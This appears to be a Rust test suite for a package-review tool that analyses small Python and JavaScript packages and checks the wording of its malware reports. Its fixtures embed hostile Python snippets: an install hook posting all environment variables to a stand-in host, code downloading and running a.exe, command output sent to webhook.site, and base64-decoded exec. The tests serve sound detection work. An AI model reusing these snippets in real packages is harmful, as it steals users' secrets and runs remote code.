//! Reports on small packages, read as a reader reads them: what it does, when, where the data goes, and each fact once.
#![allow(clippy::unwrap_used)]

use sluice_catalog::Catalog;
use sluice_flow::{Context, Entry, Source, analyze};
use sluice_review::model::Review;
use sluice_review::package::EntryPoint;
use sluice_review::{PackageInfo, PackageKind, Weights, review};
use sluice_syntax::ir::Language;

/// A file with its text, and when it runs; empty for one that only others load.
type File = (&'static str, &'static str, &'static str);

fn language(path: &str) -> Language {
    let name = if path.ends_with("package.json") {
        "package.json"
    } else if path.ends_with(".js") {
        "javascript"
    } else {
        "python"
    };
    Language::from_name(name).unwrap()
}

/// The review of a package of these files. The engine walks deep, so it gets a thread with a stack of its own.
fn package(files: &[File]) -> Review {
    let files: Vec<File> = files.to_vec();
    std::thread::Builder::new()
        .stack_size(256 << 20)
        .spawn(move || {
            let catalog = Catalog::shipped().unwrap();
            let sources: Vec<Source> = files
                .iter()
                .map(|(path, text, _)| Source {
                    path: (*path).to_owned(),
                    text: (*text).into(),
                    language: language(path),
                    robust: false,
                })
                .collect();
            let running = files.iter().filter(|(.., when)| !when.is_empty());
            let entries: Vec<Entry> = running
                .clone()
                .map(|(path, _, when)| Entry { when: (*when).into(), file: (*path).to_owned(), function: None })
                .collect();
            let facts = analyze(&sources, &Context { entries, ..Context::default() }, &catalog);
            let package = PackageInfo {
                target: "parcel-1.0.tar.gz".to_owned(),
                kind: PackageKind::Package,
                name: Some("parcel".to_owned()),
                version: Some("1.0".to_owned()),
                entry_points: running
                    .map(|(path, _, when)| EntryPoint {
                        when: (*when).to_owned(),
                        file: Some((*path).to_owned()),
                        ..EntryPoint::default()
                    })
                    .collect(),
                ..PackageInfo::default()
            };
            review(&package, &facts, &catalog, &Weights::embedded().unwrap())
        })
        .unwrap()
        .join()
        .unwrap()
}

#[track_caller]
fn says(text: &str, part: &str) {
    assert!(text.contains(part), "{part:?} is not in: {text}");
}

#[track_caller]
fn silent(text: &str, part: &str) {
    assert!(!text.contains(part), "{part:?} is in: {text}");
}

const TAKES_ALL: &str = "import os\nimport requests\nfrom setuptools import setup\n\n\
    requests.post('https://c.example.invalid/x', json=dict(os.environ))\nsetup(name='parcel', version='1.0')\n";

#[test]
fn a_malicious_conclusion_says_what_when_and_where() {
    let review = package(&[("setup.py", TAKES_ALL, "install")]);
    let conclusion = &review.report.conclusion;
    says(
        conclusion,
        "Malicious: on install, it sends all environment variables to `https://c.example.invalid/x`."
            .replace("it sends", "`setup.py` sends")
            .as_str(),
    );
    says(conclusion, "replace every secret");
    silent(conclusion, "more");
    assert_eq!(review.claims.iter().filter(|claim| claim.kind == "conclusion.advice").count(), 1);
    // Two sentences: what, and what to do.
    assert_eq!(conclusion.matches(". ").count(), 1, "{conclusion}");
}

const TELLS_HOST: &str = "import socket\nimport requests\nfrom setuptools import setup\n\n\
    requests.post('https://c.example.invalid/x', json={'h': socket.gethostname()})\nsetup(name='parcel', version='1.0')\n";

#[test]
fn one_fact_is_told_once_though_several_pages_match() {
    let review =
        package(&[("setup.py", TELLS_HOST, "install"), ("parcel.py", "def add(a, b):\n    return a + b\n", "")]);
    let claims = review.claims.iter().filter(|claim| claim.kind == "behavior.malicious").count();
    assert!(claims > 1, "{claims}");
    assert_eq!(review.report.anomalies.matches("the host name").count(), 1, "{}", review.report.anomalies);
    // The noun, and not the name of the call.
    silent(&review.report.anomalies, "socket.gethostname");
    says(&review.report.anomalies, "(setup.py:5)");
}

#[test]
fn what_has_to_be_called_is_told_with_its_function() {
    let code = "import os\nimport requests\n\n\ndef prepare():\n    \
        answer = requests.get('https://c.example.invalid/a.exe')\n    with open('a.exe', 'wb') as handle:\n        \
        handle.write(answer.content)\n    os.system('a.exe')\n";
    let review = package(&[("parcel/__init__.py", "", "import"), ("parcel/tools.py", code, "")]);
    says(&review.report.conclusion, "Malicious: only when `prepare()` is called, `parcel/tools.py` ");
    says(&review.report.conclusion, "`https://c.example.invalid/a.exe`");
}

#[test]
fn the_same_in_two_functions_is_one_fact() {
    let code = "import os\nimport requests\n\n\ndef one():\n    \
        requests.get('https://c.webhook.site/' + os.popen('ls /srv').read())\n\n\ndef two():\n    \
        requests.get('https://c.webhook.site/' + os.popen('ls /srv').read())\n";
    let review = package(&[("parcel/tools.py", code, ""), ("parcel/__init__.py", "", "import")]);
    says(&review.report.conclusion, "only when `one()` and `two()` are called");
    assert_eq!(review.report.conclusion.matches("webhook.site").count(), 1, "{}", review.report.conclusion);
    says(&review.report.anomalies, "the output of the command `ls /srv`");
    silent(&review.report.anomalies, "_wrap_close");
    says(&review.report.anomalies, "The same: parcel/tools.py:10.");
}

#[test]
fn a_place_in_a_layer_is_told_by_its_file_and_depth() {
    let code = "import base64\nfrom setuptools import setup\n\nexec(base64.b64decode('aW1wb3J0IG9zCgpvcy5zeXN0ZW0oJ3RydWUnKQo='))\nsetup(name='parcel')\n";
    let review = package(&[("setup.py", code, "install"), ("parcel.py", "", "")]);
    let text = &review.report.anomalies;
    says(text, "setup.py:4");
    says(&review.report.sinks, "(setup.py:4, one layer deep in line 3)");
    for (_, text) in review.report.prose() {
        silent(text, "of layer");
        silent(text, "layer 1");
    }
    says(text, "Hidden: Python code is decoded by `base64` and executed (setup.py:4).");
}

const QUIET: &str = "from setuptools import setup\n\nsetup(name='parcel', version='1.0')\n";

#[test]
fn entry_points_that_do_nothing_are_one_sentence() {
    let review = package(&[("setup.py", QUIET, "install"), ("parcel/__init__.py", "NAME = 'parcel'\n", "import")]);
    says(
        &review.report.analysis,
        "Nothing that runs on install (`setup.py`) and on import (`parcel/__init__.py`) reaches the network, a command, \
         a file or further code",
    );
    silent(&review.report.analysis, "known sink");
}

#[test]
fn tests_are_not_told_as_the_product() {
    let test = "import pickle\nimport requests\n\n\ndef test_load():\n    \
        data = pickle.loads(requests.get('http://www.example.com').content)\n    return data['name']\n";
    let review = package(&[
        ("parcel/__init__.py", "NAME = 'parcel'\n", "import"),
        ("tests/conftest.py", "", "run"),
        ("tests/test_load.py", test, ""),
    ]);
    for (_, text) in review.report.prose() {
        silent(text, "pickle");
        silent(text, "conftest");
        silent(text, "holds only data");
    }
    // As its own file it is told with it.
    let product = package(&[("parcel/__init__.py", test, "import")]);
    says(&product.report.anomalies, "The answer of `http://www.example.com` (parcel/__init__.py:6) is unpacked");
    says(&product.report.conclusion, "holds only data");
}

#[test]
fn a_package_without_code_says_so() {
    let review = package(&[]);
    says(&review.report.conclusion, "A package without source code");
    says(&review.report.purpose, "It holds no source code.");
}

#[test]
fn a_manifest_is_no_source_code() {
    let manifest = "{\"name\": \"parcel\", \"version\": \"1.0.0\", \"scripts\": {\"test\": \"node test.js\"}}\n";
    let review = package(&[("package.json", manifest, ""), ("index.js", "module.exports = (a) => a + 1\n", "import")]);
    says(&review.report.purpose, "It has 1 file of source code with 1 line");
}

#[test]
fn only_libraries_are_named_as_unread() {
    let code = "import os\nfrom acme.work import run\n\n\ndef go(name, thing):\n    \
        if os.sep in name:\n        thing.unheard_of()\n    return run(name)\n";
    let review = package(&[("parcel/__init__.py", code, "import"), ("parcel/more.py", "", "")]);
    says(&review.report.analysis, "Not read: what the library `acme` does.");
    says(&review.report.conclusion, "what `acme` may do");
    silent(&review.report.analysis, "unheard_of");
}

#[test]
fn flows_into_one_sink_are_one_line() {
    let code = "import importlib\nimport os\n\n\ndef load(name):\n    return importlib.import_module(name)\n\n\n\
        def first():\n    return load(os.environ['ONE'])\n\n\ndef second():\n    one = os.environ['TWO']\n    \
        return load(one)\n\n\ndef third():\n    return load(os.environ.get('THREE'))\n";
    let review = package(&[("parcel/__init__.py", code, "import"), ("parcel/more.py", "", "")]);
    assert_eq!(review.report.flows.matches("module loaded by").count(), 1, "{}", review.report.flows);
}

#[test]
fn no_line_of_a_package_is_too_long_to_read() {
    let mut code = String::from("import requests\n\n\n");
    for number in 0..40 {
        code.push_str(&format!(
            "def send_number_{number}(a_value_with_a_long_name_{number}):\n    \
             requests.post('https://c.example.invalid/{number}', data=a_value_with_a_long_name_{number})\n\n\n"
        ));
    }
    let code: &'static str = code.leak();
    let review = package(&[("parcel/__init__.py", code, "import"), ("parcel/more.py", "", "")]);
    for field in [&review.report.sinks, &review.report.flows] {
        for sentence in field.split(". ") {
            assert!(sentence.chars().count() <= 320, "{}: {sentence}", sentence.chars().count());
        }
    }
}

#[test]
fn a_default_address_is_told_with_what_changes_it() {
    let code = "import os\nimport requests\n\n\nclass Client:\n    def __init__(self, base_url=None):\n        \
        if base_url is None:\n            base_url = os.environ.get('PARCEL_BASE_URL')\n        \
        if base_url is None:\n            base_url = 'https://api.example.invalid'\n        self.base_url = base_url\n\n    \
        def get(self, path):\n        return requests.get(self.base_url + path)\n";
    let review = package(&[("parcel/__init__.py", code, "import"), ("parcel/more.py", "", "")]);
    says(
        &review.report.analysis,
        "By default `base_url` is `https://api.example.invalid`; the environment variable `PARCEL_BASE_URL` changes that",
    );
    let other = code.replace("'https://api.example.invalid'", "compute()").leak();
    let review = package(&[("parcel/__init__.py", other, "import"), ("parcel/more.py", "", "")]);
    silent(&review.report.analysis, "By default");
}

#[test]
fn a_pair_of_host_and_port_is_an_address() {
    let code = "import socket\n\n\ndef ask():\n    line = socket.socket()\n    line.connect(('192.0.2.7', 4444))\n    \
        return line.recv(64)\n";
    let review = package(&[("parcel/__init__.py", code, "import"), ("parcel/more.py", "", "")]);
    says(&review.report.analysis, "Connections go to `192.0.2.7:4444` only");
    silent(&review.report.analysis, "not fixed");
}

#[test]
fn an_honest_conclusion_says_what_it_does() {
    let code = "import subprocess\nimport requests\n\n\ndef tell(note):\n    \
        requests.post('https://api.example.invalid/notes', data=note)\n\n\ndef show():\n    \
        subprocess.run(['git', 'status'])\n";
    let review = package(&[("parcel/__init__.py", code, "import"), ("parcel/more.py", "", "")]);
    says(&review.report.conclusion, "It sends what its caller passes to `api.example.invalid`.");
    says(&review.report.conclusion, "It runs `git`.");
    let report = package(&[(
        "parcel/__init__.py",
        "import platform, socket, requests\n\n\
        requests.post('http://127.0.0.1:8080/p', json={'h': socket.gethostname()})\n",
        "import",
    )]);
    silent(&report.report.conclusion, "ordinary");
}
